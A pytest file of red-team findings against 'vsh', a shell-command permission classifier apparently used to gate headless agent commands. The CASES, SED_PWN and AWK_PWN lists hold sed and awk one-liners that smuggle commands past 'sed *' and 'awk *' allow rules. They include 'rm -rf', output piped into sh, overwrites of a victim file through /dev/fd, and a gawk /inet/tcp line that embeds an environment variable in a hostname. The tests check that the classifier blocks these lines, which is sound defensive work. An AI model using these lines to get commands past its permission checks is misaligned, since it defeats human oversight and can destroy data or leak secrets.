"""Red-team findings on the sed and awk script parsers (fifth round, report rt-classifier5): scripts
that run commands, write or read files, and that a `sed *` / `awk *` rule allowed because vsh read
the script differently from GNU sed, mawk or gawk.

Each case is a line and the least risk it may get; none is allowed headless with the broad rules.
Where sed and awk are installed, real bash shows the claim in a scratch directory (`pwn` appears,
`victim` is overwritten). Everyday sed and awk lines stay rule-eligible (STAY_ALLOWED).
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from vshell.classify import classify
from vshell.config import Tolerance
from vshell.decide import decide
from vshell.model import Risk
from vshell.rules import TrustRule

BASH = shutil.which("bash")
SED = shutil.which("sed")
AWK = shutil.which("awk")
L, M, H = Risk.LOW, Risk.MEDIUM, Risk.HIGH

# S1: GNU sed ends a label (`:`, b, t, T) and v's version at a blank, `;`, newline, `}` or `#`,
# and reads what follows as the next command.
S1 = [
    ("sed ':a e touch pwn' f", M),
    ("sed ':a\te touch pwn' f", M),
    ("sed 's/x/y/;:a e touch pwn' f", M),
    ("sed -n '/x/{:a e touch pwn\n}' f", M),
    ("sed -n '1{p;:x e touch pwn\n}' f", M),
    ("sed 't x e touch pwn\n:x' f", M),
    ("sed 'T x e touch pwn\n:x' f", M),
    ("sed 'b x e touch pwn\n:x' f", M),
    ("sed 's/a/b/;t z w pwn\n:z' f", M),
    ("sed ':x w pwn' f", M),
    ("sed 'v 4.2 e touch pwn' f", M),
    ("sed 'v e touch pwn' f", M),
    ("sed -n 'v 4.2 w pwn' f", M),
    ("sed -z ':a e touch pwn' f", M),
    ("sed 'y/a/b/;:l r /etc/hostname' f", M),
    ("sed ':a#x\n1e touch pwn' f", M),
    ("sed ':a e rm -rf x' f", H),
]

# S2: a/i/c (and e) text: a backslash escapes the next character, so `foo\\` NL ends the text.
S2 = [
    ("sed '1a foo\\\\\n1e touch pwn' f", M),
    ("sed '1a\\\nfoo\\\\\n1e touch pwn' f", M),
    ("sed '1c\\\nfoo\\\\\n$e touch pwn' f", M),
    ("sed '1{a foo\\\\\ne touch pwn\n}' f", M),
    ("sed '1i\\\\\n1e touch pwn' f", M),
    ("sed -e '1a foo\\\\' -e '1e touch pwn' f", M),
    ("sed -e '1e touch \\' -e 'pwn' f", M),
    ("sed '1a\\\nfoo\\\\\\\\\n1w pwn' f", M),
]

# S3: a `/` inside a bracket expression does not end a sed regex.
S3 = [
    ("sed 's/[/]/x/;1e touch pwn /p' f", M),
    ("sed -n '/[/]/p;1e touch pwn /p' f", M),
    ("sed 's/[^]/]/x/;1e touch pwn /p' f", M),
    ("sed 's/[[:alpha:]/]/x/;1e touch pwn /p' f", M),
    ("sed 's/[[.-.]/]/x/;1e touch pwn /p' f", M),
    ("sed '\\,[,],d;1e touch pwn' f", M),
]

# S4: sed and awk open /dev/fd/N and /proc/self/fd/N by name: writable, whatever the line opened.
# /dev/stdout is their own output, unless the line points fd 1 at a file it opened read-only.
S4 = [
    ("sed -n 'w /dev/fd/1' f 1<victim", M),
    ("sed -n 'w /proc/self/fd/1' f 1<victim", M),
    ("sed 's/x/y/w /dev/fd/1' f 1<victim", M),
    ("sed 's/x/y/w /proc/self/fd/1' f 1<victim", M),
    ("sed -n 'w /dev/fd/1' f", M),
    ("sed -n 'w /dev/stdout' f 1<victim", M),
    ("sed --posix -n 'w /dev/stdout' f 1<victim", M),
    ("awk '{print > \"/dev/fd/1\"}' f 1<victim", M),
    ("awk '{print > \"/proc/self/fd/1\"}' f 1<victim", M),
    ("awk '{print > \"/dev/stdout\"}' f 1<victim", M),
    ("awk '{print > \"/dev/stderr\"}' f 2<victim", M),
    ("mawk '{print > \"/dev/fd/2\"}' f", M),
]

# Escapes in command text are decoded before the text is judged.
ESCAPES = [
    ("awk 'BEGIN{system(\"rm\\040-rf\\040x\")}'", H),
    ("awk 'BEGIN{system(\"rm\\x20-rf\\x20x\")}'", H),
    ("awk 'BEGIN{system(\"r\\m -rf x\")}'", H),  # gawk runs `rm`, mawk `r\m`: unknown
    ("awk 'BEGIN{system(\"rm\\x020-rf x\")}'", H),
    ("sed '1e rm\\x20-rf\\x20x' f", H),
    ("sed '1e rm\\t-rf\\tx' f", H),
    ("sed '1e r\\m -rf x' f", H),
    ("sed '1e rm\\o040-rf\\d032x' f", H),
    ("sed '1e\\\nrm -rf x' f", H),
]

# A1: after print, printf, return, case, an if/while/for condition ... `/` starts a regex.
A1 = [
    ("awk 'BEGIN{print /#/; system(\"touch pwn\")}'", M),
    ("awk 'BEGIN{printf /#/; system(\"touch pwn\")}'", M),
    ("nawk 'BEGIN{print /#/; system(\"touch pwn\")}'", M),
    ("awk 'BEGIN{print /\"/; system(\"touch pwn\"); print /\"/}'", M),
    ("awk 'BEGIN{print /[(]/ > \"pwn\"}'", M),
    ("awk 'BEGIN{if (1) /#/; system(\"touch pwn\")}'", M),
    ("awk 'function f(){return /#/; system(\"touch pwn\")} BEGIN{f()}'", M),
    ("gawk 'BEGIN{switch (1) {case /#/: system(\"touch pwn\")}}'", M),
    ("awk 'BEGIN{x++ /#/; system(\"touch pwn\")}'", M),
    ("awk '{getline /#/; system(\"touch pwn\")}' f", M),
]

# A2: awk bracket expressions: `]` first, `[:class:]` inside.
A2 = [
    ("awk '/[[:alpha:]/#]/; BEGIN{system(\"touch pwn\")}' f", M),
    ("awk '/[^]/#]/; BEGIN{system(\"touch pwn\")}' f", M),
    ("awk '/[]/#]/; BEGIN{system(\"touch pwn\")}' f", M),
    ("awk 'BEGIN{if (\"a\" ~ /[[:alpha:]/\"]/) x=1; system(\"touch pwn\"); if (\"a\" ~ /\"/) y=1}'", M),
    ("awk 'BEGIN{if (\"a\" ~ /[^]/\"]/) x=1; system(\"touch pwn\"); if (\"a\" ~ /\"/) y=1}'", M),
    ("awk '/[[.a.]/#]/; BEGIN{system(\"touch pwn\")}' f", M),
]

# A3: a print statement goes on after a newline that follows `,`, `&&`, `||` or an open `(`.
A3 = [
    ("awk 'BEGIN{print \"x\",\n\"y\" > \"pwn\"}'", M),
    ("awk 'BEGIN{printf(\"%s\",\n\"x\") > \"pwn\"}'", M),
    ("awk 'BEGIN{print 1 &&\n 1 > \"pwn\"}'", M),
    ("awk 'BEGIN{print 0 ||\n 1 > \"pwn\"}'", M),
    ("awk 'BEGIN{print \"x\",\n\"y\" | \"sh\"}'", M),
]

# A4: awk reads options only before the program; later words are ARGV entries. --sandbox is gawk's.
A4 = [
    ("awk 'BEGIN{system(\"touch pwn\")}' --sandbox", M),
    ("awk 'BEGIN{system(\"touch pwn\")}' -e 'BEGIN{}'", M),
    ("awk 'BEGIN{system(\"touch pwn\")}' --source='BEGIN{}'", M),
    ("awk 'BEGIN{system(\"touch pwn\")}' -f /dev/null", M),
    ("awk --sandbox 'BEGIN{system(\"touch pwn\")}'", M),
    ("nawk --sandbox 'BEGIN{system(\"touch pwn\")}'", M),
    ("awk 'BEGIN{system(\"rm -rf x\")}' --sandbox", H),
]

# Output piped into a shell is a script, as in `echo TEXT | sh`; other ways to run commands.
PIPES = [
    ("awk 'BEGIN{print \"rm -rf x\" | \"sh\"}'", H),
    ("awk 'BEGIN{printf \"rm -rf x\\n\" | \"bash\"}'", H),
    ("awk 'BEGIN{print \"touch pwn\" | \"sh\"}'", M),
    ("awk '{print | \"sh\"}' f", M),
    ("gawk 'BEGIN{f = \"system\"; @f(\"touch pwn\")}'", H),
    ("awk '{system}' cmds", H),
    ("awk 'BEGIN{system\n(\"touch pwn\")}'", M),
    ("gawk 'BEGIN{getline l < \"/inet/tcp/0/example.com/80\"}'", M),
    ("gawk 'BEGIN{getline l < (\"/inet/tcp/0/\" ENVIRON[\"K\"] \".example.com/80\")}'", M),
]

CASES = S1 + S2 + S3 + S4 + ESCAPES + A1 + A2 + A3 + A4 + PIPES

RULES = ["sed *", "awk *", "nawk *", "gawk *", "mawk *", "cat *", "ls *", "echo *"]


def _rule(i: int, pattern: str) -> TrustRule:
    return TrustRule(id=i, tool="bash", pattern=pattern, scope=None, decision="allow")


def _decide(line: str, tmp_path: Path) -> str:
    rules = [_rule(i, p) for i, p in enumerate(RULES, 1)]
    d = decide(classify(line), rules=rules, context="headless", tolerance=Tolerance(), cwd=tmp_path,
               workspace=tmp_path, now=1.0)
    return d.decision


@pytest.mark.parametrize(("line", "least"), CASES, ids=[c[0][:70] for c in CASES])
def test_least_risk(line: str, least: Risk) -> None:
    c = classify(line)
    assert c.risk >= least, (c.reasons, c.actions)


@pytest.mark.parametrize(("line", "least"), CASES, ids=[c[0][:70] for c in CASES])
def test_never_allowed_headless(line: str, least: Risk, tmp_path: Path) -> None:
    c = classify(line)
    assert not all(a.rule_eligible for a in c.actions), c.actions
    assert _decide(line, tmp_path) != "allow"


@pytest.mark.parametrize(("line", "argv"), [
    ("awk 'BEGIN{system(\"rm\\040-rf\\040x\")}'", ("rm", "-rf", "x")),
    ("awk 'BEGIN{system(\"rm\\x20-rf\\x20x\")}'", ("rm", "-rf", "x")),
    ("sed '1e rm\\x20-rf\\x20x' f", ("rm", "-rf", "x")),
    ("sed '1e rm\\t-rf\\tx' f", ("rm", "-rf", "x")),
    ("sed ':a e rm -rf x' f", ("rm", "-rf", "x")),
    ("sed -e '1e rm -rf \\' -e 'x' f", ("x",)),
    ("awk 'BEGIN{print \"rm -rf x\" | \"sh\"}'", ("rm", "-rf", "x")),
])
def test_command_text_is_decoded_and_walked(line: str, argv: tuple[str, ...]) -> None:
    c = classify(line)
    assert any(a.argv == argv for a in c.actions), c.actions


# Everyday lines: still what a `sed *` / `awk *` rule allows.
STAY_ALLOWED = [
    "sed 's/[^/]*$//' f",
    "sed 's/[/]/_/g' f",
    "sed 's/[]/]/x/' f",
    "sed 's|[^|]*|x|' f",
    "sed -n '/[/]e touch pwn/p' f",  # one address regex: GNU sed prints the matching lines
    "sed 's/[[:space:]]*$//' f",
    "sed -E 's/[0-9]{3}/N/g' f",
    "sed -n '/foo/p' f",
    "sed '1!G;h;$!d' f",
    "sed -n '$p' f",
    "sed ':a;N;$!ba;s/\\n/ /g' f",
    "sed -e :a -e '$q;N;11,$D;ba' f",
    "sed '/^$/d;s/  */ /g' f",
    "sed 's/\\(a\\)/[\\1]/g' f",
    "sed -n 'l' f",
    "sed = f",
    "sed -n '/start/,/end/{/end/!p}' f",
    "sed '0~3d' f",
    "sed 's|/usr|/opt|g' f",
    "sed 's#a#b#' f",
    "sed '1i\\header' f",
    "sed '$a trailer' f",
    "sed -e '$a\\' f",
    "sed '1a foo\\\\\n2d' f",
    "sed 's/a/b/I' f",
    "sed -n '/a/Ip' f",
    "sed -n '2{p;q}' f",
    "sed 's/x/\\n/g' f",
    "sed -n 'w /dev/stdout' f",
    "sed 's/x/y/w /dev/stderr' f",
    "sed -n 'x;p' f",
    "sed '/x/ { s/a/b/ ; s/c/d/ }' f",
    "sed -n ':top\n/x/{n;b top\n}\np' f",
    "sed 'v 4.2' f",
    "awk '$3 > 100' f",
    "awk -F: '{print $1}' /etc/passwd",
    "awk '{print $NF/2, NR/3, (x++)/3}' f",
    "awk '{ s += $1 } END { print s/NR }' f",
    "awk 'BEGIN{print /x/ ? 1 : 0}'",
    "awk '{ print $1,\n $2 }' f",
    "awk '/a|b/' f",
    "awk -F/ '$2 ~ /[^/]+$/ {print $2}' f",
    "awk '/[[:alpha:]]+/ { n++ } END { print n }' f",
    "awk '$0 ~ /[]/]/' f",
    "awk 'length > 72' f",
    "awk '{ n = split($0, a, \"/\"); print a[n] }' f",
    "awk '{print > \"/dev/stderr\"}' f",
    "awk '{printf \"%s\\n\", $1 > \"/dev/stdout\"}' f",
    "awk 'BEGIN{while ((getline l < \"README.md\") > 0) n++; print n}'",
    "awk 'NR==FNR{a[$1];next} $1 in a' f g",
    "awk '{ if ($1 > max) max = $1 }\nEND { print max }' f",
    "awk 'BEGIN { if (x)\n print \"a\"\n else\n print \"b\" }'",
    "gawk --sandbox 'BEGIN{system(\"touch pwn\")}'",
    "awk '{print $1}' --sandbox",
    "awk '{gsub(/\\//, \"-\"); print}' f",
]


@pytest.mark.parametrize("line", STAY_ALLOWED)
def test_everyday_scripts_stay_rule_eligible(line: str, tmp_path: Path) -> None:
    c = classify(line)
    assert c.parse_ok and c.risk <= M, (c.reasons, c.actions)
    assert all(a.rule_eligible for a in c.actions), [a.ineligible_reasons for a in c.actions]
    assert _decide(line, tmp_path) == "allow"


# -- real programs, in scratch directories ---------------------------------------------------------

def _run(line: str, tmp: Path) -> subprocess.CompletedProcess[bytes]:
    (tmp / "f").write_text("a\nx\n")
    (tmp / "victim").write_text("original\n")
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp)}
    return subprocess.run([BASH or "bash", "--norc", "--noprofile", "-c", line], env=env, cwd=tmp,
                          capture_output=True, timeout=30, stdin=subprocess.DEVNULL)


needs_tools = pytest.mark.skipif(BASH is None or SED is None or AWK is None, reason="needs bash, sed and awk")
needs_gnu_sed = pytest.mark.skipif(
    SED is None or b"GNU" not in subprocess.run([SED, "--version"], capture_output=True).stdout,
    reason="needs GNU sed")

SED_PWN = [
    "sed ':a e touch pwn' f",
    "sed ':a\te touch pwn' f",
    "sed 's/x/y/;:a e touch pwn' f",
    "sed -n '1{p;:x e touch pwn\n}' f",
    "sed 't x e touch pwn\n:x' f",
    "sed 's/a/b/;t z w pwn\n:z' f",
    "sed ':x w pwn' f",
    "sed 'v 4.2 e touch pwn' f",
    "sed ':a#x\n1e touch pwn' f",
    "sed '1a foo\\\\\n1e touch pwn' f",
    "sed '1c\\\nfoo\\\\\n$e touch pwn' f",
    "sed '1{a foo\\\\\ne touch pwn\n}' f",
    "sed -e '1a foo\\\\' -e '1e touch pwn' f",
    "sed 's/[/]/x/;1e touch pwn /p' f",
    "sed 's/[^]/]/x/;1e touch pwn /p' f",
    "sed '1e touch\\x20pwn' f",
]


@needs_tools
@needs_gnu_sed
@pytest.mark.parametrize("line", SED_PWN)
def test_gnu_sed_really_does_it(line: str, tmp_path: Path) -> None:
    out = _run(line, tmp_path)
    assert (tmp_path / "pwn").exists(), out.stderr.decode(errors="replace")
    assert _decide(line, tmp_path) != "allow"


AWK_PWN = [
    "awk 'BEGIN{print /#/; system(\"touch pwn\")}'",
    "awk 'BEGIN{print /\"/; system(\"touch pwn\"); print /\"/}'",
    "awk 'BEGIN{print /[(]/ > \"pwn\"}'",
    "awk '/[[:alpha:]/#]/; BEGIN{system(\"touch pwn\")}' f",
    "awk '/[^]/#]/; BEGIN{system(\"touch pwn\")}' f",
    "awk 'BEGIN{print \"x\",\n\"y\" > \"pwn\"}'",
    "awk 'BEGIN{printf(\"%s\",\n\"x\") > \"pwn\"}'",
    "awk 'BEGIN{print 1 &&\n 1 > \"pwn\"}'",
    "awk 'BEGIN{system(\"touch pwn\")}' -e 'BEGIN{}'",
    "awk 'BEGIN{system(\"touch pwn\")}' --source='BEGIN{}'",
    "awk 'BEGIN{system(\"touch\\040pwn\")}'",
    "awk 'BEGIN{print \"touch pwn\" | \"sh\"}'",
]


@needs_tools
@pytest.mark.parametrize("line", AWK_PWN)
def test_awk_really_does_it(line: str, tmp_path: Path) -> None:
    out = _run(line, tmp_path)
    assert (tmp_path / "pwn").exists(), out.stderr.decode(errors="replace")
    assert _decide(line, tmp_path) != "allow"


VICTIM_RUNS = [
    "sed -n 'w /dev/fd/1' f 1<victim",
    "sed -n 'w /proc/self/fd/1' f 1<victim",
    "sed 's/x/y/w /dev/fd/1' f 1<victim",
    "awk '{print > \"/dev/fd/1\"}' f 1<victim",
    "awk '{print > \"/proc/self/fd/1\"}' f 1<victim",
]


@needs_tools
@needs_gnu_sed
@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="needs /proc")
@pytest.mark.parametrize("line", VICTIM_RUNS)
def test_script_overwrites_the_victim(line: str, tmp_path: Path) -> None:
    _run(line, tmp_path)
    text = (tmp_path / "victim").read_text()
    if "original" in text and "awk" in line:
        pytest.skip("this awk writes /dev/fd/N to the descriptor itself (gawk)")
    assert "original" not in text
    assert _decide(line, tmp_path) != "allow"


@needs_tools
@needs_gnu_sed
@pytest.mark.parametrize("line", [
    "sed 's/[^/]*$//' f", "sed 's/[/]/_/g' f", "sed 's/[]/]/x/' f", "sed -n '/[/]e touch pwn/p' f",
    "sed '1a foo\\\\\n2d' f", "awk '{print $NF/2, NR/3, (x++)/3}' f", "awk '$0 ~ /[]/]/' f",
])
def test_everyday_scripts_run_cleanly(line: str, tmp_path: Path) -> None:
    """The lines kept eligible are valid for the real programs and create nothing."""
    out = _run(line, tmp_path)
    assert out.returncode == 0, out.stderr.decode(errors="replace")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["f", "victim"]
